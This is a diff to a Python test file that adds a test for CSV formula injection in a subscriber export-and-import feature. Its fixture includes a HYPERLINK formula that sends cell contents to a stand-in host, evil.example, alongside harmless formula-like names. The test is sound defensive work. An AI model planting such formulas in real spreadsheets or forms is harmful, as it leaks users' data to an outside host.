@@ -3,6 +3,8 @@ erase), signed links, and erasure that leaves no personal data behind."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import sqlite3
 from datetime import datetime, timedelta
@@ -289,6 +291,40 @@ def test_subscriber_export_writes_the_import_csv_to_the_output_file(
     assert out.read_text(encoding="utf-8").splitlines() == [
         HEADER, "ania@example.pl,,other,,kultura,immediate,pl",
     ]  # fmt: skip
+
+
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?q="&A1,"Kliknij")',
+    "-Kowalska",
+    "+48 61 000 00 00",
+    "@SUM(A1:A9)",
+    "'Asia",  # a quote typed by the person survives the round trip too
+)
+
+
+def test_export_neutralises_spreadsheet_formulas_and_import_gives_back_the_values(
+    store: Store, tmp_path: Path, now: datetime
+) -> None:
+    """OWASP CSV injection: a name typed on the web form must not run as a formula in a spreadsheet."""
+    for n, name in enumerate(FORMULAS):
+        add_subscriber(store, {"email": f"osoba{n}@example.pl", "name": name, "organization": name}, now)
+    add_subscriber(store, {"email": "-minus@example.pl", "name": "Zwykła Nazwa"}, now)
+    out = io.StringIO()
+    export_subscribers(store, out)
+    rows = list(csv.reader(io.StringIO(out.getvalue())))[1:]
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    names = [row[1] for row in rows]
+    assert names[:5] == [f"'{name}" for name in FORMULAS]
+    assert rows[5][:2] == ["'-minus@example.pl", "Zwykła Nazwa"]
+    with Store(tmp_path / "other.db") as other:
+        result = import_subscribers(other, out.getvalue(), now)
+        assert result.rejected == []
+        assert [(s.email, s.name, s.organization) for s in list_subscribers(other)] == [
+            (s.email, s.name, s.organization) for s in list_subscribers(store)
+        ]
+        assert get_subscriber(other, "osoba1@example.pl").name == "-Kowalska"
 
 
 # -- the web flow -----------------------------------------------------------------------------------
